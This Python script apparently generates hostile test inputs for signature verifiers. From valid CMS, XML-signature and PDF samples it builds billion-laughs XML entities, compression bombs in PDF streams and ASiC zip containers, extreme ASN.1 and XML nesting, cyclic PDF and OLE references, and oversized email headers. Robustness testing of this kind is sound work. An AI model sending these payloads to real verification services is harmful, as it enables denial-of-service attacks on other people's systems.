"""Makes files that want to exhaust whoever verifies them.

usage: hostile_signed.py FOLDER SIGNED.p7m SIGNED.xml SIGNED.pdf

The three are good signatures; what is made of them repeats, nests or circles without end. Standard library only.
"""

import base64
import io
import re
import struct
import sys
import zipfile
import zlib
from pathlib import Path


def header(tag, length):
    if length < 0x80:
        return bytes([tag, length])
    size = (length.bit_length() + 7) // 8
    return bytes([tag, 0x80 | size]) + length.to_bytes(size, "big")


def tlv(tag, content):
    return header(tag, len(content)) + content


def read(data, at=0):
    """Tag, start of the content and end of one DER value."""
    length, start = data[at + 1], at + 2
    if length & 0x80:
        size = length & 0x7F
        length, start = int.from_bytes(data[start : start + size], "big"), start + size
    return data[at], start, start + length


def children(data):
    found, at = [], 0
    while at < len(data):
        _, _, end = read(data, at)
        found.append(data[at:end])
        at = end
    return found


def content(value):
    _, start, end = read(value)
    return value[start:end]


def nested(tag, total):
    """Definite lengths, built from the inside."""
    parts, length = [], 0
    while length < total:
        head = header(tag, length)
        parts.append(head)
        length += len(head)
    return b"".join(reversed(parts))


SIGNED_DATA = tlv(0x06, bytes.fromhex("2a864886f70d010702"))
DATA = tlv(0x06, bytes.fromhex("2a864886f70d010701"))


def cms(signed):
    kind, explicit = children(content(signed))
    fields = children(content(content(explicit)))
    signers = fields[-1]
    [signer] = children(content(signers))
    certificates = next(field for field in fields if field[0] == 0xA0)

    def message(fields):
        return tlv(0x30, kind + tlv(0xA0, tlv(0x30, b"".join(fields))))

    many = [*fields[:-1], tlv(0x31, signer * 10_000)]
    first = children(content(certificates))[0]
    crowd = [tlv(0xA0, content(certificates) + first * 20_000) if field is certificates else field for field in fields]
    attribute = tlv(0x30, tlv(0x06, bytes.fromhex("2a864886f70d01090f")) + tlv(0x31, nested(0x30, 1_000_000)))
    parts = children(content(signer))
    unsigned = tlv(0xA1, tlv(0x30, tlv(0x06, bytes.fromhex("2a864886f70d010906")) + tlv(0x31, signer * 10_000)))
    counter = tlv(0x30, b"".join(part for part in parts if part[0] != 0xA1) + unsigned)
    deep = signer
    for _ in range(400):
        fields_of = [part for part in children(content(signer)) if part[0] != 0xA1]
        inside = tlv(0xA1, tlv(0x30, tlv(0x06, bytes.fromhex("2a864886f70d010906")) + tlv(0x31, deep)))
        deep = tlv(0x30, b"".join(fields_of) + inside)
    odd = tlv(0x30, b"".join(part for part in parts if part[0] != 0xA1) + tlv(0xA1, attribute))
    yield "signers.p7m", message(many)
    yield "certificates.p7m", message(crowd)
    yield "counter-signatures.p7m", message([*fields[:-1], tlv(0x31, counter)])
    yield "counter-signatures-deep.p7m", message([*fields[:-1], tlv(0x31, deep)])
    yield "attribute-nested.p7m", message([*fields[:-1], tlv(0x31, odd)])
    yield "nested.p7m", nested(0x30, 1_000_000)
    yield "nested-sets.p7m", tlv(0x30, SIGNED_DATA + nested(0xA0, 1_000_000))
    yield "nested-indefinite.p7m", b"\x30\x80" * 500_000
    pieces = b"\x24\x80" * 300_000
    yield "nested-content.p7m", (
        b"\x30\x80" + SIGNED_DATA + b"\xa0\x80\x30\x80\x02\x01\x01\x31\x00\x30\x80" + DATA + b"\xa0\x80" + pieces
    )
    small = b"\x04\x01x" * 1_000_000
    yield "content-in-pieces.p7m", (
        b"\x30\x80" + SIGNED_DATA + b"\xa0\x80\x30\x80\x02\x01\x01\x31\x00\x30\x80" + DATA + b"\xa0\x80\x24\x80" + small
        + b"\x00" * 12 + b"\x31\x00" + b"\x00" * 6
    )
    text = signed
    for _ in range(40):
        text = base64.encodebytes(text)
    yield "base64-in-base64.p7m", text[:8_000_000]


def xml(signed):
    text = signed.decode()
    found = re.search(r"<(\w+:)?Signature[ >].*</(\w+:)?Signature>", text, re.S)
    signature = found.group(0)
    front, back = text[: found.start()], text[found.end() :]
    bare = re.sub(r"<(\w+:)?(KeyInfo|Object)[ >].*</(\w+:)?(KeyInfo|Object)>", "", signature, flags=re.S)
    yield "signatures.xml", (front + bare * 10_000 + back).encode()
    deep = signature
    for _ in range(300):
        at = deep.rindex("</")
        deep = signature[: signature.rindex("</")] + "<x>" + deep + "</x>" + signature[signature.rindex("</") :]
        if len(deep) > 3_000_000:
            break
    yield "signatures-nested.xml", (front + deep + back).encode()
    filler = "<line>x</line>" * 80_000
    reference = re.search(r"<(\w+:)?Reference .*?</(\w+:)?Reference>", signature, re.S).group(0)
    yield "references.xml", (front + filler + signature.replace(reference, reference * 1_000, 1) + back).encode()
    xpath = (
        '<ds:Transform xmlns:ds="http://www.w3.org/2000/09/xmldsig#" '
        'Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>'
        "count(//*[count(//*[count(//*[count(//*)&gt;0])&gt;0])&gt;0])&gt;0</ds:XPath></ds:Transform>"
    )
    at = signature.index("<", signature.index("Transforms") + 10)
    yield "xpath.xml", (front + filler + signature[:at] + xpath + signature[at:] + back).encode()
    yield "itself.xml", (
        '<r><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#" Id="s"><ds:SignedInfo>'
        '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
        '<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>'
        '<ds:Reference URI="#s"><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/>'
        "<ds:DigestValue>AAAA</ds:DigestValue></ds:Reference></ds:SignedInfo>"
        '<ds:SignatureValue>AAAA</ds:SignatureValue><ds:Object><ds:Manifest Id="m">'
        '<ds:Reference URI="#m" Type="http://www.w3.org/2000/09/xmldsig#Manifest">'
        '<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>AAAA</ds:DigestValue>'
        "</ds:Reference></ds:Manifest></ds:Object></ds:Signature></r>"
    ).encode()
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    yield "entities.xml", f'<!DOCTYPE r [<!ENTITY l0 "lol">{laughs}]><r>&l9;</r>'.encode()
    yield "elements-nested.xml", b"<a>" * 1_000_000
    yield "attributes.xml", ("<r " + " ".join(f'a{n}="x"' for n in range(200_000)) + "/>").encode()
    yield "namespaces.xml", (
        "".join(f'<a xmlns:p{n}="urn:{n}">' for n in range(900)) + front.replace("<?xml", "<!--") + "</a>"
    ).encode()


def pdf_of(bodies, trailer):
    out, places = io.BytesIO(), []
    out.write(b"%PDF-1.7\n")
    for number, body in enumerate(bodies, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    at = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1))
    for place in places:
        out.write(b"%010d 00000 n \n" % place)
    out.write(b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, trailer, at))
    return out.getvalue()


def pdf(signed):
    count = 10_000
    fields = b" ".join(b"%d 0 R" % (number + 4) for number in range(count))
    head = [b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[%s]/SigFlags 3>>>>" % fields]
    pages = [b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"]
    contents = b"30" * 60
    value = b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[0 10 20 10]/Contents<%s>>>"
    field = [b"<</FT/Sig/T(s%d)/V %s>>" % (number, value % contents) for number in range(count)]
    yield "signatures.pdf", pdf_of(head + pages + field, b"")
    ring = [b"<</T(f%d)/Kids[%d 0 R]/Parent %d 0 R>>" % (n, n + 1, n - 1) for n in range(5, 54)]
    circle = [b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]>>>>", *pages]
    circle += [b"<</T(f)/Kids[5 0 R 4 0 R]/Parent 54 0 R>>", *ring, b"<</T(z)/Kids[4 0 R]/Parent 4 0 R>>"]
    yield "fields-in-a-circle.pdf", pdf_of(circle, b"")
    yield "references-in-a-circle.pdf", pdf_of(
        [b"<</Type/Catalog/Pages 2 0 R/AcroForm 4 0 R>>", *pages, b"5 0 R", b"4 0 R"], b""
    )
    update = b"\n9 0 obj\n<<>>\nendobj\n"
    many, previous = bytearray(signed), int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    root = re.findall(rb"/Root\s+(\d+ \d+ R)", signed)[-1]
    for _ in range(3_000):
        place = len(many) + 1
        many += update
        at = len(many)
        many += b"xref\n9 1\n%010d 00000 n \ntrailer\n<</Size 99/Root %s/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
            place, root, previous, at
        )
        previous = at
    yield "updates.pdf", bytes(many)
    bomb = zlib.compress(b"\x00" * 200_000_000, 9)
    stream = b"<</Type/XRef/W[1 4 2]/Size 28000000/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n" % len(bomb)
    body = b"%PDF-1.7\n"
    yield "flate.pdf", body + b"1 0 obj\n" + stream + bomb + b"\nendstream\nendobj\nstartxref\n9\n%%EOF\n"


def containers():
    def made(entries, kind="application/vnd.etsi.asic-e+zip"):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
            file.writestr("mimetype", kind, zipfile.ZIP_STORED)
            for name, data in entries:
                file.writestr(name, data)
        return out.getvalue()

    zeros = bytes(300_000_000)
    yield "zeros.asice", made([("a.bin", zeros), ("META-INF/signatures.p7s", b"\x30\x00")])
    yield "zeros-as-signature.asice", made([("META-INF/signature.p7s", zeros), ("a", b"x")])
    yield "entries.asice", made((f"d/{number}", b"x") for number in range(60_000))
    manifest = (
        '<asic:ASiCManifest xmlns:asic="http://uri.etsi.org/02918/v1.2.1#" xmlns:ds="http://www.w3.org/2000/09/xmldsig#">'
        '<asic:SigReference URI="META-INF/ASiCManifest.xml"/>'
        + '<asic:DataObjectReference URI="META-INF/ASiCManifest.xml"><ds:DigestMethod '
        'Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>AAAA</ds:DigestValue>'
        "</asic:DataObjectReference>" * 20_000
        + "</asic:ASiCManifest>"
    )
    yield "manifest-of-itself.asice", made([("META-INF/ASiCManifest.xml", manifest), ("a", b"x")])
    inner = made([("a", b"x"), ("META-INF/signature.p7s", b"\x30\x00")])
    for _ in range(30):
        inner = made([("a.asice", inner), ("META-INF/signature.p7s", b"\x30\x00")])
    yield "containers-nested.asice", inner


def mails():
    deep = "".join(
        f'Content-Type: multipart/mixed; boundary="b{n}"\r\n\r\n--b{n}\r\n' for n in range(20_000)
    )
    yield "parts-nested.eml", ("From: a@example.com\r\n" + deep).encode()
    part = "--b\r\nContent-Type: application/pkcs7-mime; smime-type=signed-data\r\n\r\nMAA=\r\n"
    front = 'From: a@example.com\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n'
    yield "messages.eml", (front + part * 50_000 + "--b--\r\n").encode()
    yield "header.eml", b"From: a@example.com\r\n" + b"X: y\r\n" * 1_000_000 + b"\r\n"
    yield "header-long.eml", b"From: a@example.com\r\nSubject: " + b"x" * 20_000_000 + b"\r\n\r\n"
    sector, count = 512, 2_000
    fat = struct.pack("<128I", *([0xFFFFFFFD] + [(n % 127) + 1 for n in range(127)]))
    head = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + struct.pack("<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6,
        0, 1, 1, 0, 4096, 2, 1, 0xFFFFFFFE, 0)
    head += struct.pack("<109I", 0, *([0xFFFFFFFF] * 108))
    yield "sectors-in-a-circle.msg", head.ljust(sector, b"\0") + fat + bytes(sector * count)


def records():
    digest = tlv(0x04, bytes(32))
    crowd = tlv(0x30, digest * 200_000)
    algorithms = tlv(0x30, tlv(0x30, tlv(0x06, bytes.fromhex("608648016503040201"))))
    stamp = tlv(0x30, SIGNED_DATA + tlv(0xA0, tlv(0x30, b"")))
    one = tlv(0x30, tlv(0xA2, crowd) + stamp)
    yield "hashes.ers", tlv(0x30, tlv(0x02, b"\x01") + algorithms + tlv(0x30, tlv(0x30, one)))
    few = tlv(0x30, tlv(0xA2, tlv(0x30, digest)) + stamp)
    yield "stamps.ers", tlv(0x30, tlv(0x02, b"\x01") + algorithms + tlv(0x30, tlv(0x30, few * 100_000)))
    yield "chains.ers", tlv(0x30, tlv(0x02, b"\x01") + algorithms + tlv(0x30, tlv(0x30, few) * 100_000))


def main():
    folder, message, document, pages = map(Path, sys.argv[1:])
    folder.mkdir(parents=True, exist_ok=True)
    makers = [cms(message.read_bytes()), xml(document.read_bytes()), pdf(pages.read_bytes()), containers(), mails(), records()]
    for maker in makers:
        for name, data in maker:
            (folder / name).write_bytes(data)


if __name__ == "__main__":
    main()
